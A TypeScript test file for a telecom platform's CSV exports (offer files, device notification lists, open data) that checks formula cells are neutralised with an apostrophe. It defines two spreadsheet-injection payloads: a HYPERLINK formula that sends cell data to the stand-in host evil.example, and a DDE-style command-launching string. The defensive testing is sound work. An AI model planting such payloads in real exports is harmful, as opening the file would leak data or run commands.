import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { buildApp } from '../src/app.ts';
import { allMigrations } from '../src/platform/create.ts';
import { offersModule } from '../src/modules/offers/index.ts';
import { OFFER_COLUMNS } from '../src/modules/offers/catalogue/offer-file.ts';
import { offerCsv, offerRow, planId } from '../src/modules/offers/testing/offer-rows.ts';
import { devicesModule } from '../src/modules/devices/index.ts';
import { settingsOf } from '../src/platform/settings.ts';
import { devicesSettings } from '../src/modules/devices/devices.settings.ts';
import { createClassificationRepository } from '../src/modules/devices/classification/classification.repository.ts';
import { createClassificationService } from '../src/modules/devices/classification/classification.service.ts';
import { createDeviceListRepository } from '../src/modules/devices/lists/device-list.repository.ts';
import { createDeviceListService } from '../src/modules/devices/lists/device-list.service.ts';
import { qualityModule } from '../src/modules/quality/index.ts';
import { createDemoApiApp } from './helpers/api-tokens.ts';
import { openTestDatabases } from './helpers/db.ts';
import { insertObservations } from './helpers/device-data.ts';
import { importMeasurementCsv } from './helpers/measurements.ts';
import { createTestPlatform } from './helpers/platform.ts';

// Every CSV file Kinga writes goes through one writer that neutralises formula cells (issue 13, item 8).
const modules = [offersModule, qualityModule, devicesModule];
const databases = openTestDatabases(allMigrations(modules));
const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Cheapest plan")';
const AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0";

for (const database of databases.all) {
  test(`the offer exports write a name that starts a formula behind an apostrophe, and the numbers as they are [${database.dialect}]`, async () => {
    const { platform, app, token } = await createDemoApiApp(database, modules, { tokenName: 'upload' });
    const bearer = await token('', ['offers:write']);
    const plan = planId('M', 9_900_000_001, 'FORMULA');
    const file = offerCsv([offerRow({ unique_plan_id: plan, operator_id: 'OP-DEMO-1', provider_name: 'Provider', service_plan_name: 'Plan' })]);
    const upload = await app.inject({
      method: 'POST',
      url: '/api/v1/offers/imports?lenient=true',
      headers: { 'content-type': 'text/csv', authorization: `Bearer ${bearer}` },
      payload: file,
    });
    assert.equal(upload.statusCode, 201, upload.body);
    // Offer files now refuse such names, but a version stored before that rule keeps them: the
    // export must still neutralise what the database holds.
    const stored = await platform.db.kysely.selectFrom('offer_versions').select(['id', 'record']).where('plan_id', '=', plan).executeTakeFirstOrThrow();
    const record = { ...JSON.parse(stored.record), providerName: AT_FORMULA, servicePlanName: FORMULA };
    await platform.db.kysely
      .updateTable('offer_versions')
      .set({ record: JSON.stringify(record) })
      .where('id', '=', stored.id)
      .execute();
    for (const path of ['/api/v1/offers/export/current.csv', '/api/v1/offers/export/history.csv']) {
      const reply = await app.inject(path);
      assert.equal(reply.statusCode, 200, path);
      const rows: string[][] = parse(reply.body);
      const row = rows.find((r) => r[0] === plan);
      assert.ok(row, `${path} holds the plan`);
      assert.equal(row[OFFER_COLUMNS.indexOf('service_plan_name')], `'${FORMULA}`, path);
      assert.equal(row[OFFER_COLUMNS.indexOf('provider_name')], `'${AT_FORMULA}`, path);
      assert.equal(row[OFFER_COLUMNS.indexOf('monthly_price')], '500', 'numbers are not touched');
      const formulas = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-][\d ().+-]*$/.test(cell));
      assert.deepEqual(formulas, [], `${path}: no cell starts a formula; numbers and phone numbers stay as they are`);
    }
    await app.close();
  });

  test(`the EIR lists write an MSISDN that starts a formula behind an apostrophe, and an E.164 number with its plus [${database.dialect}]`, async () => {
    const platform = await createTestPlatform(await database.fresh(), { modules });
    const db = platform.db.kysely;
    await insertObservations(db, platform.keyring, [
      { imei: '35209900000002', imsi: '639020000000012', msisdn: FORMULA, firstSeen: '2026-11-01', lastSeen: '2026-11-30' },
      { imei: '35209900000003', imsi: '639020000000013', msisdn: '+254700000013', firstSeen: '2026-11-01', lastSeen: '2026-11-30' },
    ]);
    const settings = settingsOf(devicesSettings, {
      conditions: [
        { name: 'unregistered', blocking: true, gracePeriodDays: 10, reason: 'NOT_REGISTERED', maxNewShare: 1, dimensions: [{ type: 'notRegistered' }] },
      ],
      operatorNetworks: { 'OP-A': ['639-02'] },
      notificationLookbackDays: 30,
    });
    const deps = { keyring: platform.keyring, clock: platform.clock, ids: platform.ids, audit: platform.audit };
    const classification = createClassificationService({
      ...deps,
      repository: createClassificationRepository(db),
      jobs: platform.jobs,
      sms: platform.sms,
      settings,
      allocationLagDays: {},
      t: platform.catalogs.translator('en'),
      baseUrl: 'http://localhost',
    });
    const lists = createDeviceListService({ ...deps, repository: createDeviceListRepository(db), settings });
    await classification.classify({ date: '2026-12-01' });
    const run = await lists.generateLists({ date: '2026-12-01' });
    const file = lists.filesOf(run).find((f) => f.name === 'notifications-OP-A.csv');
    assert.ok(file);
    let text = '';
    for await (const line of lists.linesOf(run, file)) text += `${line}\n`;
    const rows: string[][] = parse(text);
    const msisdns = rows
      .slice(1)
      .map((r) => r[2])
      .sort();
    assert.deepEqual(msisdns, ['+254700000013', `'${FORMULA}`].sort());
  });

  test(`the open data files keep negative coordinates as numbers [${database.dialect}]`, async () => {
    const platform = await createTestPlatform(await database.fresh(), { modules });
    await offersModule.seedDemo?.(platform);
    const csv = [
      'time,operator,technology,download_kbps,latitude,longitude,accuracy_m',
      '2026-10-14T09:47:12Z,OP-DEMO-1,4G,23500,-1.286389,-36.817223,25',
    ].join('\n');
    await importMeasurementCsv(platform, csv);
    const app = await buildApp(platform, modules);
    const reply = await app.inject('/api/v1/quality/open-data/measurements-2026-10.csv');
    assert.equal(reply.statusCode, 200);
    const [header, row] = parse(reply.body);
    assert.ok(header && row);
    assert.match(row[header.indexOf('latitude')] ?? '', /^-1\.\d+$/);
    assert.match(row[header.indexOf('longitude')] ?? '', /^-36\.\d+$/);
    await app.close();
  });
}
